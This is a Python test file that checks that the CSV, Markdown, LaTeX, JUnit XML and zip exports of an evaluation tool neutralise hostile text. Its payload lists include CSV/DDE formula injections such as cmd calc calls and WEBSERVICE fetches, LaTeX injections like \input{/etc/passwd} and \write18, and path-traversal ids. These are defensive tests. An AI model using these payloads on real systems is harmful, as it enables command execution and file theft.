"""Tables that people open: no cell of a CSV is run, nothing in Markdown, LaTeX or XML is more than text."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from support.hostile_runs import hostile_run
from support.markdown import Parsed, github, markdown_it, parse
from support.markdown_payloads import PAYLOADS as MARKDOWN
from support.page_payloads import PAYLOADS as TEXTS
from support.records import record
from support.sample_records import debate
from support.trust_scale import times

from pytest_hiddenlayer import load_run
from pytest_hiddenlayer.analysis.debates.analysis import analyse_debates
from pytest_hiddenlayer.analysis.debates.text import debates_markdown
from pytest_hiddenlayer.analysis.strategy_bench.text import markdown_cell
from pytest_hiddenlayer.export.latex.escape import escape
from pytest_hiddenlayer.export.paper.macros import macros_text
from pytest_hiddenlayer.export.paper.methods import methods_text
from pytest_hiddenlayer.export.tables import csv_cell, csv_line
from pytest_hiddenlayer.interface.runs import Run
from pytest_hiddenlayer.report.markdown.text import cell, is_plain
from pytest_hiddenlayer.results.log.run_log import RunLog

FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1", "＝1+1", "＋1", "－1", "＠A1",
    "=cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://e\")", "=WEBSERVICE(\"http://e/\"&A1)", "=IMPORTXML(\"http://e\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "-+1", "--1", "+-1", "-1e", "-.", "+", "-", "=", "@", "x;=1+1;y",
    "x;@SUM(A1)", "x;-cmd|' /C calc'!A0;", "x;+HYPERLINK(1)", "x\n=1+1", "x\r\n=1+1", "x\r=1+1", "x\t=1+1\t",
    "\";=1+1;\"", "\",=1+1,\"", "x;\"=1+1", "x; =1", "'=1", "''=1", "x;'=1", "\u0000=1", "-1+2", "+1 (x)",
    "-2-3|x!", "\u00a0=1", "\u200b=1",
)  # fmt: skip
NUMBERS = ("-0.5", "+3", "0", "1.5e-7", "-1E+5", ".5", "-.5", "3.", "1234567890123", "-17", "1e400")
FORMULA = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")


def is_number(text: str) -> bool:
    """Whether a spreadsheet reads a number."""
    return re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", text) is not None


def restored(text: str) -> str:
    """The text of a cell without the apostrophe that docs/export.md names."""
    text = re.sub(r"(?<=[;\t\r\n])'(?='*[ \"]{0,4}(?:[=@＝＠]|[+\-＋－][^;\t\r\n]*[(!|]))", "", text)
    quoted = re.match("'+[\\s\ufeff\u200b]*[=+\\-@＝＋－＠]|'+[\t\r\n]", text)
    return text[1:] if quoted else text


def parts(line: str, delimiter: str) -> list[str]:
    """The cells of a line for a program that takes another sign between them, and every line end."""
    rows = csv.reader(io.StringIO(line, newline=""), delimiter=delimiter)
    return [part for row in rows for part in row]


def dangerous(part: str) -> bool:
    """Whether a part of a text computes, fetches or starts something; `- item` gives an error only."""
    return re.match(r"[=@＝＠]|[+\-＋－].*[(!|]", part) is not None


@pytest.mark.parametrize("texts", [FORMULAS, TEXTS], ids=["formulas", "texts"])
def test_no_cell_of_a_csv_is_a_formula(texts):
    """Read with commas, no cell is a formula; read with semicolons or tabs by mistake, none that does anything."""
    for text in texts:
        check_line(text)


def check_line(text: str) -> None:
    """Look at the cells of a line with a text, for programs that split it at one sign or another."""
    line = csv_line(["a", text, "b"])
    (row,) = csv.reader(io.StringIO(line, newline=""))
    assert len(row) == 3
    assert is_number(row[1]) or not FORMULA.match(row[1])
    assert restored(row[1]) == text.replace("\0", "\\x00")
    for delimiter in ";\t":
        assert [part for part in parts(line, delimiter) if dangerous(part)] == []


@given(st.text() | st.lists(st.sampled_from([*"=+-@;\t\r\n'\" ,(|!x0＝", "\ufeff"]), max_size=12).map("".join))
@example("'\t")
def test_any_text_is_no_formula_and_can_be_restored(text):
    """Removing one apostrophe, as the documents say, gives the text back."""
    written = csv_cell(text)
    assert is_number(written) or not FORMULA.match(written)
    assert restored(written) == text.replace("\0", "\\x00")


@pytest.mark.parametrize("text", NUMBERS)
def test_numbers_of_a_csv_stay_numbers(text):
    """A text that is a number is written as it is, whatever its sign."""
    assert csv_cell(text) == text


def test_a_huge_text_is_escaped_at_once():
    """Blanks, tabs and dashes without end are looked at once."""
    for text in ("\n" * 10**6, "\t-" * 500_000, ";" + " " * 10**6, "-" * 10**6, ";'" * 500_000, "\n-" * 500_000):
        assert len(csv_cell(text)) >= len(text)


def test_no_export_of_a_run_has_a_formula(tmp_path):
    """With a payload in every field, samples, calls and cells are tables without formulas."""
    folder, _ = hostile_run(tmp_path, payloads=[*FORMULAS, *TEXTS])
    for what in ("samples", "calls", "cells"):
        rows = list(csv.reader(io.StringIO(load_run(folder).export("csv", what=what), newline="")))
        assert len({len(row) for row in rows}) == 1
        assert [part for row in rows for part in row if FORMULA.match(part) and not is_number(part)] == []


def run_of(root: Path, text: str) -> Run:
    """A run whose names and answers are `text`."""
    text = text.replace("\ud800", "\ufffd")
    names = {"task": text, "label": text, "strategy": text, "model": text, "provider": text, "slug": text}
    log = RunLog(root, "run")
    log.append_all([record(text, 1.0, output=text, answer=text, **names), replace(debate(), **names)])
    log.write_manifest({"seed": 0})
    log.close()
    return Run(log.folder)


@pytest.mark.parametrize("render", [github, markdown_it])
@pytest.mark.parametrize("start", [0, *(pytest.param(start, marks=pytest.mark.slow) for start in range(1, 8))])
def test_names_in_markdown_are_texts(render: Callable[[str], str], start: int, tmp_path):
    """`export --to markdown` and `rounds` show names in code elements: no link, image, heading or HTML is theirs."""
    plain = shown(run_of(tmp_path / "plain", "a_b"), render)
    for number, payload in enumerate(MARKDOWN[start :: 8 * times(6, 1)]):
        if not payload.strip() or is_plain(payload):
            continue
        pages = shown(run_of(tmp_path / str(number), payload), render)
        for page, expected in zip(pages, plain, strict=True):
            assert page.outside == expected.outside, payload
            assert page.links == []


def shown(run: Run, render: Callable[[str], str]) -> tuple[Parsed, Parsed]:
    """The pages of `export --to markdown` and of `rounds --markdown`."""
    return parse(render(run.export("markdown"))), parse(render(debates_markdown(analyse_debates(run.records))))


@pytest.mark.parametrize("write", [cell, markdown_cell])
def test_a_cell_is_code_unless_it_means_nothing(write: Callable[[str], str]):
    """Mentions, issues, commits, addresses, mathematics and lists are code; numbers and words as written."""
    rows = [write(payload) for payload in MARKDOWN if payload.strip()]
    page = parse(github("| a |\n| --- |\n" + "".join(f"| {row} |\n" for row in rows)))
    outside = "".join(text for text in page.outside if not text.startswith("<"))
    assert page.links == []
    assert not re.search(r"[@#`*_~\\\[\]{}|<>&]|\$[^0-9]|://|www|GH-|:\w+:", outside)
    for text in ("GH-1", "0a1b2c3d", "$x$", "1) x", "- x", "+ x", "a@b", "x.y", ":cat:"):
        assert write(text).startswith("<code>")
    for text in ("nano-2", "long sums", "+0.125 [-1", "$0.01", "1,234", "qwen2.5-0.5b", "95 %", "single"):
        assert write(text).replace("<code>", "").startswith(text.split(" [")[0])


@given(st.text(min_size=1))
def test_any_cell_stays_in_its_row(text):
    """Whatever a name is, the table has one row of two cells, and no element but code."""
    page = parse(github(f"| a | b |\n| --- | --- |\n| {cell(text)} | end |\n"))
    tags = [tag.split()[0].strip("</>") for tag in page.outside if tag.startswith("<")]
    assert tags.count("td") == 4
    assert set(tags) <= {"table", "thead", "tbody", "tr", "th", "td", "code"}
    assert page.links == []


LATEX_COMMANDS = re.compile(
    r"\\(?:text[a-z]+\{\}|[S]\{\}|ldots\{\}|pounds\{\}|ensuremath\{(?:\\[A-Za-z]+|-)\}|[{}$&%#_])"
)


LATEX = (
    r"\input{/etc/passwd}", r"\write18{id}", r"\immediate\write18{id}", "^^5cinput{x}", "a^^Mb", "%\n\\end{document}",
    r"\end{tabular}\input x", "$$", r"\(x\)", "&", "#1", "~", "\\", "\\\\[1cm]", "|id", r"\openin5=x", "{", "}",
    r"\csname input\endcsname{x}", r"\catcode`\@=11", "\x00\x1b", "\u202e",
)  # fmt: skip


def test_latex_has_no_command_of_a_text():
    """Of a text, only commands that print one character are left, and no comment, mathematics or alignment."""
    for text in (*LATEX, *TEXTS):
        rest = LATEX_COMMANDS.sub("", escape(text))
        assert not re.search(r"[\\$&%#^_~]", rest), text
        assert rest.count("{") == rest.count("}"), text
        assert escape(text).isprintable(), text


def test_every_answer_is_text_in_junit_xml(tmp_path):
    """With a payload in every field the XML is well-formed, and no reader's terminal or page is steered."""
    folder, _ = hostile_run(tmp_path)
    text = load_run(folder).export("junit")
    root = ElementTree.fromstring(text)
    assert {element.tag for element in root.iter()} <= {
        "testsuites", "testsuite", "testcase", "properties", "property", "failure", "error", "skipped", "system-out",
    }  # fmt: skip
    assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", text)


def test_a_paper_has_no_command_of_a_text(tmp_path):
    """Macros, methods and table of a hostile run name its texts, and none is a command."""
    names = [r"a\input{/etc/passwd}%", "b\n\\write18{id}\r\\x", "^^5cinput $x$ \x0b\\y", "&#~{}\u2028\\z"]
    folder, _ = hostile_run(tmp_path, payloads=[f"{name}{number}" for number in range(60) for name in names])
    run = load_run(folder)
    for text in (macros_text(run), methods_text(run), run.export("latex")):
        assert "passwd" in text
        assert not re.search(r"\\input\{/|\\write|\\[xyz]\b|\^\^|(?<!\\)\$x", text)
        comments = [line for line in text.splitlines() if line.startswith("%")]
        assert all(line.isprintable() for line in comments)


@pytest.mark.parametrize(
    "sample_id", ["../../evil", "a/../../b", "..\\..\\c", "/etc/x", "a\x00\x1b[2J\u202e\nb", "./.."]
)
def test_an_inspect_log_has_no_member_outside_its_folder(sample_id, tmp_path):
    """A sample's id leads to no other folder, and has no control character, in the names of the zip file."""
    log = RunLog(tmp_path, "run")
    log.append_all([record(sample_id, 1.0)])
    log.write_manifest({"seed": 0})
    log.close()
    Run(log.folder).export("inspect", tmp_path / "logs")
    (path,) = (tmp_path / "logs").iterdir()
    for name in zipfile.ZipFile(path).namelist():
        assert not {"..", "."} & set(re.split(r"[/\\]", name)), name
        assert not name.startswith("/")
        assert name.isprintable()
